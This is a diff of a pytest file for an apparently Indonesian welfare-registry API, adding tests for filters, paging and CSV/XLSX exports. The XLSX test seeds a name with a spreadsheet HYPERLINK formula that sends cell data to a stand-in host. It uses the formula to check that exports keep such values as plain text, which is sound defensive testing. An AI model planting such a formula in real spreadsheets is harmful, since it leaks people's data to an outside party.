@@ -7,6 +7,7 @@ from __future__ import annotations
 import csv
 import io
 import uuid
+import zipfile
 from collections.abc import Callable
 from dataclasses import dataclass
 from datetime import date
@@ -14,6 +15,7 @@ from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
+from openpyxl import load_workbook
 from sqlalchemy import Engine, func, select
 from sqlmodel import Session, col
 
@@ -282,12 +284,63 @@ def test_lean_path_answers_as_the_endpoint_does(
     app.dependency_overrides.clear()
 
 
+def test_year_and_status_filters_list_the_people_they_define(
+    anon: TestClient, masuk_sebagai: MasukSebagai, reg: Registri
+) -> None:
+    """Issue 17: the year filter's query changed shape; the people it lists did not. A
+    person is listed when one of its own PMKS records or its current family's matches."""
+    harapan = {
+        2023: {reg.maria},
+        2024: {reg.benu, reg.maria, reg.petrus, reg.stefanus, reg.maria_5302},
+    }
+    diajukan_2024 = {reg.petrus, reg.stefanus, reg.maria_5302}
+    di_5301 = {reg.benu, reg.maria, reg.petrus, reg.agustina}
+    for peran, wilayah, lingkup in (
+        ("operator_provinsi", None, None),
+        ("operator_kabkota", "5301", di_5301),
+    ):
+        h = masuk_sebagai(peran, wilayah) if wilayah else masuk_sebagai(peran)
+        for tahun, orang in harapan.items():
+            for saring in ({}, {"kode_wilayah": "5301"}):
+                dilihat = orang & lingkup if lingkup else orang
+                if saring:
+                    dilihat = dilihat & di_5301
+                params = {"tahun": tahun, "limit": 2, **saring}
+                ids: set[str] = set()
+                cursor = None
+                while True:  # page by page: the keyset query's every page
+                    body = anon.get(DAFTAR, headers=h, params={**params, "cursor": cursor}
+                                    if cursor else params).json()  # fmt: skip
+                    ids |= {p["id"] for p in body["data"]}
+                    if not (cursor := body["next_cursor"]):
+                        break
+                assert ids == dilihat, (peran, params)
+                rows = _csv(anon.get(DAFTAR, headers=h, params={**params, "format": "csv"}))
+                assert {r["id"] for r in rows} == dilihat, (peran, params)
+                assert {r["tahun"] for r in rows} <= {str(tahun)}
+        params = {"tahun": 2024, "status_verifikasi": "diajukan"}
+        dilihat = diajukan_2024 & lingkup if lingkup else diajukan_2024
+        assert _ids(anon.get(DAFTAR, headers=h, params=params)) == dilihat
+
+
 # --- CSV -------------------------------------------------------------------------------------
 
 
 def _csv(response: Any) -> list[dict[str, str]]:
     assert response.status_code == 200, response.text
-    return list(csv.DictReader(io.StringIO(response.text)))
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def _xlsx(response: Any) -> list[tuple[Any, ...]]:
+    assert response.status_code == 200, response.text
+    buku = load_workbook(io.BytesIO(response.content))
+    return [tuple(r) for r in buku.active.iter_rows(values_only=True)]
+
+
+KOLOM_EKSPOR = (
+    "id,nik,nama,jenis_kelamin,tanggal_lahir,tahun_lahir,kode_wilayah,nomor_kk,"
+    "status_hidup,updated_at,kategori,tahun,status_verifikasi"
+)
 
 
 def test_csv_export(client: TestClient, reg: Registri) -> None:
@@ -296,20 +349,83 @@ def test_csv_export(client: TestClient, reg: Registri) -> None:
     assert response.headers["content-disposition"] == (
         'attachment; filename="penerima-manfaat.csv"'
     )
-    assert response.text.splitlines()[0] == (
-        "id,nik,nama,jenis_kelamin,tanggal_lahir,tahun_lahir,kode_wilayah,nomor_kk,"
-        "status_hidup,updated_at"
-    )
+    # A UTF-8 BOM, so that Excel reads the names' characters right.
+    assert response.content.startswith(b"\xef\xbb\xbfid,nik,")
+    assert response.content.decode("utf-8-sig").splitlines()[0] == KOLOM_EKSPOR
     rows = _csv(response)
-    assert [r["id"] for r in rows] == sorted([reg.benu, reg.maria, reg.petrus, reg.agustina])
+    assert sorted({r["id"] for r in rows}) == sorted(
+        [reg.benu, reg.maria, reg.petrus, reg.agustina]
+    )
+    assert [r["id"] for r in rows] == sorted(r["id"] for r in rows)
     benu = next(r for r in rows if r["id"] == reg.benu)
-    assert benu["nik"] == reg.nik["yohanes"] and benu["nama"] == "Yohanes Benu"
-    assert benu["tanggal_lahir"] == "1960-03-10" and benu["nomor_kk"] == KK_BENU
+    # NIK and KK stay text in a spreadsheet: a leading apostrophe, not a number, no formula.
+    assert benu["nik"] == "'" + reg.nik["yohanes"] and benu["nama"] == "Yohanes Benu"
+    assert benu["tanggal_lahir"] == "1960-03-10" and benu["nomor_kk"] == "'" + KK_BENU
     # limit and cursor are for JSON pages: the export is the whole filtered list.
     saring = {"format": "csv", "kategori": "fakir_miskin", "limit": 1}
     assert {r["id"] for r in _csv(client.get(DAFTAR, params=saring))} == {
         reg.benu, reg.maria, reg.petrus,
     }  # fmt: skip
+
+
+def test_csv_export_has_one_row_per_matching_pmks_record(client: TestClient, reg: Registri) -> None:
+    def pmks(params: dict[str, Any]) -> list[tuple[str, str, str, str]]:
+        rows = _csv(client.get(DAFTAR, params={"format": "csv", **params}))
+        return [(r["id"], r["kategori"], r["tahun"], r["status_verifikasi"]) for r in rows]
+
+    # Unfiltered: every record of each person, the family's too; none: empty columns.
+    semua = pmks({"kode_wilayah": "5301"})
+    assert sorted(semua) == sorted([
+        (reg.benu, "fakir_miskin", "2024", "terverifikasi"),
+        (reg.benu, "lanjut_usia_terlantar", "2024", "terverifikasi"),
+        (reg.maria, "penyandang_disabilitas", "2023", "terverifikasi"),
+        (reg.maria, "fakir_miskin", "2024", "terverifikasi"),
+        (reg.petrus, "anak_terlantar", "2024", "diajukan"),
+        (reg.petrus, "fakir_miskin", "2024", "terverifikasi"),
+        (reg.agustina, "", "", ""),
+    ])  # fmt: skip
+    # Filtered: the records the filter matched, nothing else.
+    assert sorted(pmks({"kode_wilayah": "5301", "tahun": 2023})) == [
+        (reg.maria, "penyandang_disabilitas", "2023", "terverifikasi")
+    ]
+    assert sorted(pmks({"kode_wilayah": "5301", "status_verifikasi": "diajukan"})) == [
+        (reg.petrus, "anak_terlantar", "2024", "diajukan")
+    ]
+
+
+def test_xlsx_export(client: TestClient, engine: Engine, reg: Registri) -> None:
+    with Session(engine) as s:
+        _orang(s, "5301", '=HYPERLINK("http://x.test/?d="&A1,"Klik")', "P",
+               date(1991, 2, 3), 9)  # fmt: skip
+        s.commit()
+    response = client.get(DAFTAR, params={"format": "xlsx", "kode_wilayah": "5301"})
+    assert response.headers["content-type"] == (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    assert response.headers["content-disposition"] == (
+        'attachment; filename="penerima-manfaat.xlsx"'
+    )
+    baris = _xlsx(response)
+    assert ",".join(baris[0]) == KOLOM_EKSPOR
+    rows = [dict(zip(baris[0], b, strict=True)) for b in baris[1:]]
+    # The same rows as the CSV.
+    dari_csv = _csv(client.get(DAFTAR, params={"format": "csv", "kode_wilayah": "5301"}))
+    assert [(r["id"], r["kategori"]) for r in rows] == [
+        (r["id"], r["kategori"] or None) for r in dari_csv
+    ]
+    benu = next(r for r in rows if r["id"] == reg.benu)
+    assert benu["nik"] == reg.nik["yohanes"] and benu["nomor_kk"] == KK_BENU  # text, 16 digits
+    assert benu["tahun"] == 2024 and benu["tahun_lahir"] == 1960
+    # A name that looks like a formula is a text cell in the file, never a formula.
+    buku = load_workbook(io.BytesIO(response.content))
+    nama = [c for c in buku.active["C"] if str(c.value).startswith("=HYPERLINK")]
+    assert len(nama) == 1 and nama[0].data_type == "s"
+    assert b"<f>" not in _bagian(response.content, "xl/worksheets/sheet1.xml")
+
+
+def _bagian(isi: bytes, nama: str) -> bytes:
+    with zipfile.ZipFile(io.BytesIO(isi)) as z:
+        return z.read(nama)
 
 
 def test_csv_export_streams_in_batches_and_keeps_formulas_as_text(
@@ -327,6 +443,8 @@ def test_csv_export_streams_in_batches_and_keeps_formulas_as_text(
     assert len(rows) == 8 and len({r["id"] for r in rows}) == 8
     assert [r["id"] for r in rows] == sorted(r["id"] for r in rows)
     assert any(r["nama"].startswith("'=HYPERLINK") for r in rows)
+    baris = _xlsx(client.get(DAFTAR, params={"format": "xlsx", "kode_wilayah": "5303"}))
+    assert len(baris) == 9 and [b[0] for b in baris[1:]] == [r["id"] for r in rows]
 
 
 # --- one person ------------------------------------------------------------------------------
@@ -564,11 +682,15 @@ def test_district_operator_sees_and_changes_only_its_district(
         ids = _ids(anon.get(DAFTAR, headers=h, params=params))
         assert not ids & {reg.stefanus, reg.maria_5302}, params
     assert _ids(anon.get(DAFTAR, headers=h, params={"nik": reg.nik["maria"]})) == {reg.maria}
-    csv_text = anon.get(DAFTAR, headers=h, params={"format": "csv"}).text
+    csv_text = anon.get(DAFTAR, headers=h, params={"format": "csv"}).content.decode("utf-8-sig")
     assert reg.stefanus not in csv_text and reg.nik["stefanus"] not in csv_text
     assert {r["kode_wilayah"] for r in csv.DictReader(io.StringIO(csv_text))} == {"5301"}
     kosong = anon.get(DAFTAR, headers=h, params={"format": "csv", "kode_wilayah": "5302"})
     assert len(_csv(kosong)) == 0
+    baris = _xlsx(anon.get(DAFTAR, headers=h, params={"format": "xlsx"}))
+    assert {b[6] for b in baris[1:]} == {"5301"} and {b[0] for b in baris[1:]} == milik
+    kosong = anon.get(DAFTAR, headers=h, params={"format": "xlsx", "kode_wilayah": "5302"})
+    assert len(_xlsx(kosong)) == 1
     # Another district's person, read or changed, answers exactly as an unknown id does:
     # nothing tells that it exists.
     path = f"{DAFTAR}/{reg.stefanus}"
@@ -768,7 +890,7 @@ def test_demo_registry_through_the_api(
         jumlah = registri.muat_registri(s)
     h = masuk_sebagai("operator_provinsi")
     rows = _csv(anon.get(DAFTAR, headers=h, params={"format": "csv"}))
-    assert len(rows) == jumlah
+    assert len({r["id"] for r in rows}) == jumlah
     ids: list[str] = []
     cursor = None
     while True:
@@ -780,7 +902,7 @@ def test_demo_registry_through_the_api(
         cursor = body["next_cursor"]
         if not cursor:
             break
-    assert ids == sorted(r["id"] for r in rows if r["kode_wilayah"] == "5371")
+    assert ids == sorted({r["id"] for r in rows if r["kode_wilayah"] == "5371"})
     assert anon.get("/v1/duplikat", headers=h).json()["data"]
 
 
